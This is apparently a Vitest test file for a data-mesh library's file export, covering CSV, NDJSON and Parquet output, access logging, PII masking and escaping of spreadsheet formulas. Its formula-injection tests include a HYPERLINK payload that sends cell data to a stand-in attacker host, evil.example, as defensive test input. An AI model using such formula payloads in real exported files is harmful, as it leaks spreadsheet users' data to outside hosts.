import { readFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  type ExampleMesh,
  exampleRecords,
  exampleSpec,
  openExampleMesh,
} from '../../test/support/example-mesh.ts';
import { failureOf, type GovernedMesh, openGovernedMesh } from '../../test/support/governed-mesh.ts';
import { MeshError } from '../core/errors.ts';
import { maskValue } from '../governance/masking.ts';
import type { DataProduct } from './data-product.ts';
import { storeMaskingKey } from '../../test/support/masking-key.ts';

const failure = async (promise: Promise<unknown>): Promise<MeshError> => {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(MeshError);
  return error as MeshError;
};

describe('DataProduct.exportFile', () => {
  let em: ExampleMesh;
  beforeEach(async () => {
    em = await openExampleMesh();
  });
  afterEach(async () => {
    await em.cleanup();
  });

  it('writes every record to CSV and logs the export with the rows written', async () => {
    const result = await em.sales.exportFile(em.dir.file('sales.csv'));
    expect(result).toMatchObject({
      productId: 'sales.transactions',
      format: 'csv',
      rows: 6,
      maskedFields: {},
    });
    const lines = readFileSync(em.dir.file('sales.csv'), 'utf8').trim().split('\n');
    expect(lines[0]).toBe('transaction_id,product_id,customer_id,amount,date,product_category,region');
    expect(lines).toHaveLength(7);
    const [entry] = await em.sales.accessLog({ operation: 'export' });
    expect(entry).toMatchObject({
      operation: 'export',
      rowsAffected: 6,
      parameters: { format: 'csv', file: 'sales.csv', filter: null },
    });
  });

  it('writes the filtered records, in order, with the chosen columns, as NDJSON', async () => {
    const result = await em.sales.exportFile(em.dir.file('europe.jsonl'), {
      where: "region = 'Europe'",
      columns: ['transaction_id', 'amount'],
      orderBy: 'amount desc',
    });
    expect(result).toMatchObject({ format: 'ndjson', rows: 2 });
    const rows = readFileSync(result.path, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as unknown);
    expect(rows).toEqual([
      { transaction_id: 'TXN002', amount: 200 },
      { transaction_id: 'TXN005', amount: 120 },
    ]);
  });

  it('round-trips through Parquet: an export ingests into a product with the same contract', async () => {
    const file = em.dir.file('sales.parquet');
    expect((await em.sales.exportFile(file)).rows).toBe(6);
    const copy = await em.mesh.createProduct({ ...exampleSpec('sales'), id: 'sales.copy' });
    expect(await copy.ingestFile(file)).toMatchObject({ total: 6, accepted: 6, rejectedCount: 0 });
    const read = await copy.query(undefined, { orderBy: 'transaction_id' });
    expect(read.rows).toEqual(exampleRecords('sales'));
  });

  it('refuses an archived product with conflict', async () => {
    await em.sales.archive();
    const error = await failure(em.sales.exportFile(em.dir.file('x.csv')));
    expect(error.code).toBe('conflict');
    expect(error.message).toMatch(/archived products refuse reads/);
  });

  it('refuses an unknown format, field or order with invalid_input and a missing folder with not_found', async () => {
    expect((await failure(em.sales.exportFile(em.dir.file('x.xlsx')))).message).toMatch(
      /cannot tell the export format/,
    );
    expect((await failure(em.sales.exportFile(em.dir.file('x'), { format: 'xml' as never }))).code).toBe(
      'invalid_input',
    );
    expect(
      (await failure(em.sales.exportFile(em.dir.file('x.csv'), { columns: ['amout'] }))).message,
    ).toMatch(/unknown field "amout" in columns/);
    expect(
      (await failure(em.sales.exportFile(em.dir.file('x.csv'), { orderBy: 'amount sideways' }))).code,
    ).toBe('invalid_input');
    expect((await failure(em.sales.exportFile(em.dir.file('x.csv'), { where: 'amount >' }))).code).toBe(
      'invalid_input',
    );
    expect((await failure(em.sales.exportFile(em.dir.file('none/x.csv')))).code).toBe('not_found');
    expect(await em.sales.accessLog({ operation: 'export' })).toEqual([]);
  });
});

describe('DataProduct.exportFile under governance', () => {
  let gm: GovernedMesh;
  beforeEach(async () => {
    gm = await openGovernedMesh();
  });
  afterEach(async () => {
    await gm.cleanup();
  });

  it('writes PII masked for a consumer whose grant leaves it out, as query shows it', async () => {
    const request = await gm.bob.governance.requestAccess({
      product: 'customer.profiles',
      purpose: 'churn model',
    });
    await gm.carol.governance.approve(request.id);
    const product = await gm.bob.product('customer.profiles');
    const result = await product.exportFile(gm.dir.file('customers.ndjson'), { orderBy: 'customer_id' });
    expect(result.maskedFields).toEqual({ name: 'redact', email: 'hash' });
    const [first] = readFileSync(result.path, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const original = exampleRecords('customers')[0] as Record<string, unknown>;
    expect(first).toMatchObject({
      customer_id: original.customer_id,
      name: '***',
      email: maskValue(String(original.email), 'hash', await storeMaskingKey(gm.store)),
    });
    expect(
      (await failureOf(product.exportFile(gm.dir.file('by-email.csv'), { orderBy: 'email' }))).code,
    ).toBe('policy_denied');
  });

  it('refuses a consumer without a grant', async () => {
    const error = await failureOf(
      (await gm.dave.product('customer.profiles')).exportFile(gm.dir.file('c.csv')),
    );
    expect(error.code).toBe('unauthorized');
  });
});

describe('DataProduct.exportFile and spreadsheet formulas', () => {
  let em: ExampleMesh;
  let product: DataProduct;
  const TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1+1',
    '-5',
    '@SUM(A1:A9)',
    '\tTab',
    '\rCR',
    'plain',
  ];
  beforeEach(async () => {
    em = await openExampleMesh({ ingest: false });
    const spec = exampleSpec('sales');
    spec.id = 'sales.adjustments';
    const fields = (spec.schema as { fields: Record<string, unknown>[] }).fields;
    for (const f of fields) delete f.exclusiveMinimum;
    product = await em.mesh.createProduct(spec);
    const outcome = await product.ingest(
      TEXTS.map((text, i) => ({
        transaction_id: `ADJ${i}`,
        product_id: 'PROD1',
        customer_id: 'CUST1',
        amount: -5 - i,
        date: '2025-10-01',
        product_category: text,
        region: 'Europe',
      })),
    );
    expect(outcome.rejected).toEqual([]);
  });
  afterEach(async () => {
    await em.cleanup();
  });

  const csvCells = (path: string, column: number): string[] =>
    readFileSync(path, 'utf8')
      .split('\n')
      .slice(1)
      .filter((l) => l !== '')
      .map((l) => l.split(',')[column] ?? '');

  it('prefixes a quote to text cells a spreadsheet would run, and leaves numbers (negative ones too) alone', async () => {
    const path = em.dir.file('adjustments.csv');
    const result = await product.exportFile(path, {
      columns: ['transaction_id', 'amount', 'product_category'],
      orderBy: 'transaction_id',
    });
    expect(result.formulasEscaped).toBe(true);
    const text = readFileSync(path, 'utf8');
    expect(text).toContain('ADJ0,-5.0,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(csvCells(path, 1)).toEqual(['-5.0', '-6.0', '-7.0', '-8.0', '-9.0', '-10.0', '-11.0']);
    expect(text).toContain("ADJ1,-6.0,'+1+1\n");
    expect(text).toContain("ADJ2,-7.0,'-5\n");
    expect(text).toContain("ADJ3,-8.0,'@SUM(A1:A9)\n");
    expect(text).toContain("ADJ4,-9.0,'\tTab\n");
    expect(text).toContain('ADJ5,-10.0,"\'\rCR"\n');
    expect(text).toContain('ADJ6,-11.0,plain\n');
    expect(text).not.toMatch(/,=|,\+|,@/);
  });

  it('writes the text as stored with csvFormulaEscape false, and never touches NDJSON', async () => {
    const path = em.dir.file('raw.csv');
    const result = await product.exportFile(path, {
      columns: ['transaction_id', 'product_category'],
      orderBy: 'transaction_id',
      csvFormulaEscape: false,
    });
    expect(result.formulasEscaped).toBe(false);
    const text = readFileSync(path, 'utf8');
    expect(text).toContain('ADJ1,+1+1\n');
    expect(text).toContain('ADJ3,@SUM(A1:A9)\n');
    const [entry] = await product.accessLog({ operation: 'export' });
    expect(entry?.parameters).toMatchObject({ format: 'csv', csvFormulaEscape: false });
    const ndjson = await product.exportFile(em.dir.file('all.ndjson'), { orderBy: 'transaction_id' });
    expect(ndjson.formulasEscaped).toBe(false);
    const categories = readFileSync(ndjson.path, 'utf8')
      .trim()
      .split('\n')
      .map((l) => (JSON.parse(l) as { product_category: string }).product_category);
    expect(categories).toEqual(TEXTS);
    const bad = await failure(product.exportFile(path, { csvFormulaEscape: 'no' as unknown as boolean }));
    expect(bad.code).toBe('invalid_input');
    expect(bad.message).toContain(
      'csvFormulaEscape of the export of sales.adjustments must be true or false',
    );
  });
});
